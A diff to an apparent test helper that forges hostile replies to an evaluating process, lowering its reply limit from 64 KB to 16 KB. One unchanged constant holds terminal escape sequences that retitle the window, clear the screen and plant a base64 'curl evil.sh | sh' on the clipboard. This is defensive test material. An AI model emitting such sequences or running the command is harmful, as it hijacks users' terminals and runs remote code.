@@ -5,10 +5,10 @@ Which reply is ``FORGERIES[seed % len(FORGERIES)]`` (the seed is in the run cont
 a framed message (4-byte big-endian length, then the body) as the wire protocol has it:
 
 * ``huge``: a header announcing 60 MB of ``[{},{},...]``, and as much of it as the pipe takes;
-* ``objects``: just under 64 KB (the largest reply) of empty objects in the batch,
+* ``objects``: just under 16 KB (the largest reply) of empty objects in the batch,
   ``{"ok":true,"batch":[{},{},...]}``;
 * ``lists``: the same with empty lists;
-* ``strings``: 64 KB of one-character strings, more values than any batch may hold;
+* ``strings``: 16 KB of one-character strings, more values than any batch may hold;
 * ``died``: a failure in the words only the template may use (``"kind": "died"``, SIGXCPU:
   the evaluating process would call it a timeout);
 * ``terminal``: an exception whose text drives a terminal (a window title, the clipboard, a
@@ -22,7 +22,7 @@ import sys
 import time
 
 MB = 1 << 20
-REPLY = 64 << 10  # the largest reply the evaluating process reads
+REPLY = 16 << 10  # the largest reply the evaluating process reads
 FORGERIES = ("none", "huge", "objects", "lists", "strings", "died", "terminal")
 TERMINAL = "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\rall good"
 
